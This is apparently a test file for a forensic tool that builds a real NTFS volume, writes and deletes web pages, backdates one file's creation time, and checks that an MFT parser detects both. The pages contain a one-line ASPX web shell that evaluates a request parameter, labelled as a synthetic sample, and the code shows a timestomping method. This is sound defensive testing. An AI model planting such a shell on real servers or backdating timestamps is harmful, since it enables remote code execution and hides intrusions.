"""A real NTFS volume, written by ntfs-3g (mkntfs, then mounted through FUSE): web pages created, one
deleted, one with its creation time set back through ntfs-3g's creation-time attribute; the raw $MFT, as a
collection tool copies it (fixups in place), read back by exhunt.

Skips, saying why, when mkntfs or ntfs-3g is not installed (Debian: ``apt-get install ntfs-3g``) or when the
volume cannot be mounted (no FUSE in the sandbox, no privilege).
"""

from __future__ import annotations

import os
import shutil
import struct
import subprocess
import time
from pathlib import Path

import pytest

from exhunt.model.evidence import Artifact, ArtifactKind
from exhunt.parsers.base import ParseReport
from exhunt.parsers.mft import MftParser
from exhunt.sources.directory import DirectoryTree

STOMPED = 1604459561  # 2020-11-04 03:12:41 UTC
FILETIME_STOMPED = (STOMPED + 11_644_473_600) * 10_000_000


def _tools() -> str | None:
    for tool in ("mkntfs", "ntfs-3g"):
        if shutil.which(tool) is None and not Path("/usr/sbin", tool).exists() and not Path("/sbin", tool).exists():
            return f"{tool} not installed (apt-get install ntfs-3g)"
    if not Path("/dev/fuse").exists():
        return "no /dev/fuse: FUSE is not available here"
    return None


def _tool(name: str) -> str:
    return shutil.which(name) or next(str(p) for p in (Path("/usr/sbin", name), Path("/sbin", name)) if p.exists())


def _raw_mft(image: Path) -> bytes:
    """The $MFT as it lies on the volume (fixups in place), found from the boot sector."""
    with image.open("rb") as handle:
        boot = handle.read(512)
        sector = struct.unpack_from("<H", boot, 0x0B)[0]
        cluster = sector * boot[0x0D]
        lcn = struct.unpack_from("<q", boot, 0x30)[0]
        handle.seek(lcn * cluster)
        records = []
        while len(records) < 4096:
            record = handle.read(1024)
            if record[:4] != b"FILE":
                break
            records.append(record)
    return b"".join(records)


@pytest.fixture(scope="module")
def volume(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    reason = _tools()
    if reason:
        pytest.skip(reason)
    work = tmp_path_factory.mktemp("ntfs")
    image, mount = work / "vol.img", work / "mnt"
    mount.mkdir()
    with image.open("wb") as handle:
        handle.truncate(16 << 20)
    subprocess.run([_tool("mkntfs"), "-F", "-q", "-f", "-L", "EXHUNT", str(image)], check=True,
                   capture_output=True, timeout=60)
    # in the foreground (no_detach: it may not be able to daemonize here); mounted once the folder is a mount point
    daemon = subprocess.Popen([_tool("ntfs-3g"), "-o", "no_detach", str(image), str(mount)], stdin=subprocess.DEVNULL,
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 30
    while not os.path.ismount(mount) and daemon.poll() is None and time.monotonic() < deadline:
        time.sleep(0.1)
    if not os.path.ismount(mount):
        daemon.kill()
        _, err = daemon.communicate(timeout=30)
        pytest.skip(f"ntfs-3g cannot mount here: {err.decode(errors='replace').strip()[:200]}")
    try:
        web = mount / "inetpub" / "wwwroot" / "aspnet_client" / "system_web"
        web.mkdir(parents=True)
        synthetic = b'<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'  # synthetic sample
        (web / "gone.aspx").write_bytes(synthetic)
        (web / "kept.aspx").write_bytes(synthetic)
        # the creation time set back through ntfs-3g's attribute for it
        os.setxattr(web / "kept.aspx", "system.ntfs_crtime", struct.pack("<Q", FILETIME_STOMPED))
        (web / "gone.aspx").unlink()
    finally:
        subprocess.run(["umount", str(mount)], check=False, capture_output=True, timeout=60)
        try:
            daemon.wait(timeout=30)
        except subprocess.TimeoutExpired:
            daemon.kill()
            daemon.wait(timeout=30)
    return _raw_mft(image)


def test_real_volume_deleted_and_timestomped_pages(volume: bytes, tmp_path: Path) -> None:
    (tmp_path / "C").mkdir()
    (tmp_path / "C" / "$MFT").write_bytes(volume)
    report = ParseReport(path="C/$MFT")
    records = list(MftParser().parse(DirectoryTree(tmp_path), Artifact(ArtifactKind.MFT, "C/$MFT", len(volume)),
                                     report))
    assert [w for w in report.warnings if w.code in ("bad-fixup", "bad-record")] == []
    by_path = {r.fields["path"]: r for r in records}
    assert by_path["$MFT"].record == 0
    gone = by_path["inetpub/wwwroot/aspnet_client/system_web/gone.aspx"]
    assert not gone.fields["in_use"]
    kept = by_path["inetpub/wwwroot/aspnet_client/system_web/kept.aspx"]
    times = kept.fields["times"]()
    assert kept.fields["in_use"] and times.si_created == "2020-11-04T03:12:41.000000Z"
    # ntfs-3g writes a set creation time to $FILE_NAME too (Windows' SetFileTime changes $SI only), so the
    # $SI-before-$FN test of timestomping is proven on composed records (test_fs_detector.py), not here
    assert times.fn_created == times.si_created
    assert times.si_modified is not None and times.si_modified > "2021"
    assert times.written() == (times.si_modified, "si_modified")
